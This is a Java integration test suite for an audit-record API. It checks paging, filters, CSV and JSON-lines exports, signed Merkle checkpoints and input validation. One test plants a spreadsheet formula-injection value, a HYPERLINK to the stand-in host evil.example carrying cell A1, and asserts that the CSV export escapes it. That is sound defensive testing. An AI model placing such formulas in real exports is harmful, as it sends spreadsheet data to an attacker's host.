package io.agentshop.queryside.audit;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.agentshop.queryside.QuerySideIntegrationTest;
import io.agentshop.queryside.TestTokens;
import io.agentshop.tlog.Ed25519KeyFile;
import io.agentshop.queryside.audit.checkpoint.Checkpoint;
import io.agentshop.queryside.audit.checkpoint.Checkpointer;
import io.agentshop.tlog.MerkleTree;
import io.agentshop.queryside.audit.record.AuditRecord;
import io.agentshop.queryside.audit.record.AuditRecords;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;

import java.nio.charset.StandardCharsets;
import java.security.PublicKey;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;

/** What an auditor sees over HTTP, checked the way an outside auditor would check it. */
class AuditApiTest extends QuerySideIntegrationTest {

    private static final HexFormat HEX = HexFormat.of();

    @Autowired
    AuditRecords records;

    @Autowired
    Checkpointer checkpointer;

    private final ObjectMapper json = new ObjectMapper();

    /** A person with the auditor role, as an outside auditor reaches the API. */
    @Override
    protected String token() {
        return TestTokens.person("auditor-1", "auditor");
    }

    @Test
    void pagingReturnsEveryRecordExactlyOnceWhileRecordsAreAppended() throws Exception {
        String user = AuditTrailFixtures.freshUser();
        AuditTrailFixtures.publish(AuditTrailFixtures.ordersPlaced(user, 7));
        AuditTrailFixtures.awaitRecords(records, user, 7);

        List<String> seen = new ArrayList<>();
        String cursor = null;
        int pages = 0;
        do {
            JsonNode page = get("/audit/records?user=" + user + "&limit=3" + (cursor == null ? "" : "&cursor=" + cursor));
            page.get("records").forEach(record -> seen.add(record.get("eventId").asText()));
            cursor = page.get("nextCursor").isNull() ? null : page.get("nextCursor").asText();
            if (++pages == 1) {
                // Appended between pages: they come after, and the next pages pick them up exactly once.
                AuditTrailFixtures.publish(AuditTrailFixtures.ordersPlaced(user, 2));
                AuditTrailFixtures.awaitRecords(records, user, 9);
            }
        } while (cursor != null);

        assertThat(seen).hasSize(9).doesNotHaveDuplicates();
        assertThat(new HashSet<>(seen)).isEqualTo(eventIdsOf(user));
    }

    @Test
    void filtersCombine() throws Exception {
        String user = AuditTrailFixtures.freshUser();
        AuditTrailFixtures.publish(AuditTrailFixtures.ordersPlaced(user, 2));
        List<AuditRecord> mine = AuditTrailFixtures.awaitRecords(records, user, 2);

        assertThat(get("/audit/records?user=" + user + "&agent=agent-7&action=place_order&outcome=accepted"
                + "&targetType=Order&targetId=" + mine.get(0).targetId()).get("records")).hasSize(2);
        assertThat(get("/audit/records?user=" + user + "&outcome=refused").get("records")).isEmpty();
        assertThat(get("/audit/records?user=" + user + "&from=" + mine.get(0).occurredAt() + "&to="
                + Instant.now().plusSeconds(60)).get("records")).hasSize(2);
    }

    @Test
    void csvAndJsonLinesExportsHaveOneLinePerRecord() throws Exception {
        String user = AuditTrailFixtures.freshUser();
        AuditTrailFixtures.publish(AuditTrailFixtures.ordersPlaced(user, 6));
        AuditTrailFixtures.awaitRecords(records, user, 6);

        ResponseEntity<String> csv = http.getForEntity("/audit/records/export?format=csv&user=" + user, String.class);
        ResponseEntity<String> jsonl = http.getForEntity("/audit/records/export?format=jsonl&user=" + user, String.class);

        assertThat(csv.getStatusCode()).isEqualTo(HttpStatus.OK);
        List<String> csvLines = csv.getBody().lines().toList();
        assertThat(csvLines).hasSize(7);
        assertThat(csvLines.get(0)).startsWith("seq,event_id,");
        assertThat(csvLines.subList(1, 7)).allSatisfy(line -> assertThat(line).contains(user));
        List<String> jsonLines = jsonl.getBody().lines().toList();
        assertThat(jsonLines).hasSize(6);
        for (String line : jsonLines) {
            assertThat(json.readTree(line).get("userId").asText()).isEqualTo(user);
        }
    }

    @Test
    void aCsvExportShowsACellThatLooksLikeAFormulaAsTextAndJsonLinesKeepTheExactBytes() throws Exception {
        String user = AuditTrailFixtures.freshUser();
        String formula = "\t=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")";
        // A refused cancel_order of such an order id, as an older build recorded it (the edge now refuses the tab).
        ObjectNode refusal = io.agentshop.queryside.EventsOnKafka.envelope("CommandRejected", "Order", formula, 0,
                user, "agent-1", "cancel_order", io.agentshop.queryside.EventsOnKafka.payload(java.util.Map.of(
                        "commandType", "CancelOrderCommand", "targetType", "Order", "targetId", formula,
                        "reason", "UNKNOWN_ORDER", "sentence", "no such order")));
        AuditTrailFixtures.publish(List.of(refusal));
        AuditTrailFixtures.awaitRecords(records, user, 1);

        String csv = http.getForEntity("/audit/records/export?format=csv&user=" + user, String.class).getBody();
        String jsonl = http.getForEntity("/audit/records/export?format=jsonl&user=" + user, String.class).getBody();

        assertThat(csv).contains(",\"'\t=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"open\"\")\",")
                .doesNotContain(",\t=").doesNotContain(",\"\t=");
        JsonNode line = json.readTree(jsonl.lines().findFirst().orElseThrow());
        assertThat(line.get("targetId").asText()).isEqualTo(formula);
        assertThat(Base64.getDecoder().decode(line.get("envelopeBytes").asText()))
                .isEqualTo(json.writeValueAsBytes(refusal));
    }

    @Test
    void aRecordsInclusionProofVerifiesAgainstTheSignedCheckpointWithThePublishedKey() throws Exception {
        String user = AuditTrailFixtures.freshUser();
        AuditTrailFixtures.publish(AuditTrailFixtures.ordersPlaced(user, 3));
        AuditRecord mine = AuditTrailFixtures.awaitRecords(records, user, 3).get(1);
        checkpointer.checkpointNow();

        JsonNode proven = get("/audit/records/" + mine.seq());
        JsonNode key = get("/audit/public-key");

        JsonNode record = proven.get("record");
        JsonNode proof = proven.get("inclusionProof");
        JsonNode checkpoint = proven.get("checkpoint");
        assertThat(record.get("eventId").asText()).isEqualTo(mine.eventId());
        byte[] leaf = MerkleTree.leafHash(HEX.parseHex(record.get("hash").asText()));
        List<byte[]> path = new ArrayList<>();
        proof.get("auditPath").forEach(step -> path.add(HEX.parseHex(step.asText())));
        assertThat(MerkleTree.verifyInclusion(leaf, mine.seq() - 1, checkpoint.get("treeSize").asLong(), path,
                HEX.parseHex(checkpoint.get("rootHash").asText()))).isTrue();
        assertThat(signatureVerifies(checkpoint, key)).isTrue();
        assertThat(checkpoint.get("keyId").asText()).isEqualTo(key.get("keyId").asText());
    }

    @Test
    void twoCheckpointsAreProvedConsistent() throws Exception {
        String user = AuditTrailFixtures.freshUser();
        AuditTrailFixtures.publish(AuditTrailFixtures.ordersPlaced(user, 2));
        AuditTrailFixtures.awaitRecords(records, user, 2);
        Checkpoint first = checkpointer.checkpointNow().orElseThrow();
        AuditTrailFixtures.publish(AuditTrailFixtures.ordersPlaced(user, 3));
        AuditTrailFixtures.awaitRecords(records, user, 5);
        Checkpoint second = checkpointer.checkpointNow().orElseThrow();

        JsonNode consistency = get("/audit/checkpoints/consistency?from=" + first.treeSize() + "&to=" + second.treeSize());
        JsonNode key = get("/audit/public-key");

        List<byte[]> proof = new ArrayList<>();
        consistency.get("proof").forEach(step -> proof.add(HEX.parseHex(step.asText())));
        JsonNode from = consistency.get("from");
        JsonNode to = consistency.get("to");
        assertThat(MerkleTree.verifyConsistency(from.get("treeSize").asLong(), to.get("treeSize").asLong(),
                HEX.parseHex(from.get("rootHash").asText()), HEX.parseHex(to.get("rootHash").asText()), proof)).isTrue();
        assertThat(signatureVerifies(from, key)).isTrue();
        assertThat(signatureVerifies(to, key)).isTrue();
        assertThat(get("/audit/checkpoints").get("checkpoints").findValuesAsText("rootHash"))
                .contains(first.rootHash(), second.rootHash());
    }

    @Test
    void theVerifyEndpointReportsAnIntactTrail() throws Exception {
        String user = AuditTrailFixtures.freshUser();
        AuditTrailFixtures.publish(AuditTrailFixtures.ordersPlaced(user, 1));
        AuditTrailFixtures.awaitRecords(records, user, 1);

        JsonNode result = get("/audit/verify");

        assertThat(result.get("intact").asBoolean()).as(result.toString()).isTrue();
        assertThat(result.get("recordsChecked").asLong()).isPositive();
    }

    @Test
    void theTraceIdFilterReturnsExactlyTheRecordsOfThatTraceAlsoInExports() throws Exception {
        String user = AuditTrailFixtures.freshUser();
        String first = AuditTrailFixtures.freshTraceId();
        String second = AuditTrailFixtures.freshTraceId();
        List<ObjectNode> ofFirst = AuditTrailFixtures.withTraceId(AuditTrailFixtures.ordersPlaced(user, 3), first);
        List<ObjectNode> ofSecond = AuditTrailFixtures.withTraceId(AuditTrailFixtures.ordersPlaced(user, 2), second);
        List<ObjectNode> all = new ArrayList<>(ofFirst);
        all.addAll(ofSecond);
        AuditTrailFixtures.publish(all);
        AuditTrailFixtures.awaitRecords(records, user, 5);

        assertThat(recordField(get("/audit/records?traceId=" + first), "/eventId"))
                .containsExactlyInAnyOrderElementsOf(eventIds(ofFirst));
        JsonNode secondPage = get("/audit/records?traceId=" + second);
        assertThat(recordField(secondPage, "/eventId")).containsExactlyInAnyOrderElementsOf(eventIds(ofSecond));
        assertThat(recordField(secondPage, "/actor/traceId")).containsOnly(second);
        assertThat(get("/audit/records?traceId=" + first + "&targetId=" + ofSecond.get(0).path("aggregateId").asText())
                .get("records")).as("combined with another filter").isEmpty();
        assertThat(get("/audit/records?traceId=" + AuditTrailFixtures.freshTraceId()).get("records")).isEmpty();

        List<String> jsonLines = http.getForEntity("/audit/records/export?format=jsonl&traceId=" + first, String.class)
                .getBody().lines().toList();
        List<String> exported = new ArrayList<>();
        for (String line : jsonLines) {
            exported.add(json.readTree(line).get("eventId").asText());
        }
        assertThat(exported).containsExactlyInAnyOrderElementsOf(eventIds(ofFirst));
        assertThat(http.getForEntity("/audit/records/export?format=csv&traceId=" + second, String.class).getBody()
                .lines()).hasSize(1 + ofSecond.size());
    }

    @Test
    void aTraceIdThatIsNot32LowercaseHexDigitsIsABadRequest() throws Exception {
        for (String bad : List.of("trace-1", "4BF92F3577B34DA6A3CE929D0E0E4736", "4bf92f3577b34da6a3ce929d0e0e473",
                "4bf92f3577b34da6a3ce929d0e0e47361", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
                "4bf92f3577b34da6a3ce929d0e0e473g")) {
            assertProblem("/audit/records?traceId=" + bad, "traceId");
            assertProblem("/audit/records/export?format=csv&traceId=" + bad, "traceId");
        }
    }

    @Test
    void aBadCursorIsAProblemDetailNotAStackTrace() throws Exception {
        assertProblem("/audit/records?cursor=not-a-cursor!", "cursor");
        assertProblem("/audit/records?cursor=" + Base64.getUrlEncoder().encodeToString("v2:x".getBytes()), "cursor");
        assertProblem("/audit/records?limit=501", "limit");
        assertProblem("/audit/records?outcome=maybe", "outcome");
        assertProblem("/audit/records?from=yesterday", "from");
        assertProblem("/audit/records/export?format=xml", "format");
    }

    @Test
    void anUnknownRecordIsNotFound() throws Exception {
        ResponseEntity<String> response = http.getForEntity("/audit/records/999999999", String.class);
        assertThat(response.getStatusCode()).isEqualTo(HttpStatus.NOT_FOUND);
        assertThat(response.getHeaders().getContentType()).isEqualTo(MediaType.APPLICATION_PROBLEM_JSON);
    }

    private void assertProblem(String uri, String mentioned) throws Exception {
        ResponseEntity<String> response = http.getForEntity(uri, String.class);
        assertThat(response.getStatusCode()).as(uri).isEqualTo(HttpStatus.BAD_REQUEST);
        assertThat(response.getHeaders().getContentType()).as(uri).isEqualTo(MediaType.APPLICATION_PROBLEM_JSON);
        JsonNode problem = json.readTree(response.getBody());
        assertThat(problem.get("status").asInt()).isEqualTo(400);
        assertThat(problem.get("detail").asText()).as(uri).contains(mentioned);
        assertThat(response.getBody()).doesNotContain("Exception", "\tat ");
    }

    private boolean signatureVerifies(JsonNode checkpoint, JsonNode key) {
        PublicKey publicKey = Ed25519KeyFile.publicKeyFromPem(key.get("pem").asText());
        String message = Checkpoint.message(checkpoint.get("treeSize").asLong(), checkpoint.get("rootHash").asText(),
                Instant.parse(checkpoint.get("createdAt").asText()), checkpoint.get("keyId").asText());
        assertThat(message).isEqualTo(checkpoint.get("signedMessage").asText());
        return Ed25519KeyFile.verify(publicKey, message.getBytes(StandardCharsets.UTF_8),
                Base64.getDecoder().decode(checkpoint.get("signature").asText()));
    }

    private static List<String> recordField(JsonNode page, String pointer) {
        List<String> values = new ArrayList<>();
        page.get("records").forEach(record -> values.add(record.at(pointer).asText()));
        return values;
    }

    private static List<String> eventIds(List<ObjectNode> envelopes) {
        return envelopes.stream().map(envelope -> envelope.path("eventId").asText()).toList();
    }

    private Set<String> eventIdsOf(String user) {
        Set<String> ids = new HashSet<>();
        records.page(io.agentshop.queryside.audit.record.AuditRecordFilter.ofUser(user), 0, 500)
                .forEach(r -> ids.add(r.eventId()));
        return ids;
    }

    private JsonNode get(String uri) throws Exception {
        ResponseEntity<String> response = http.getForEntity(uri, String.class);
        assertThat(response.getStatusCode()).as(uri + ": " + response.getBody()).isEqualTo(HttpStatus.OK);
        return json.readTree(response.getBody());
    }
}
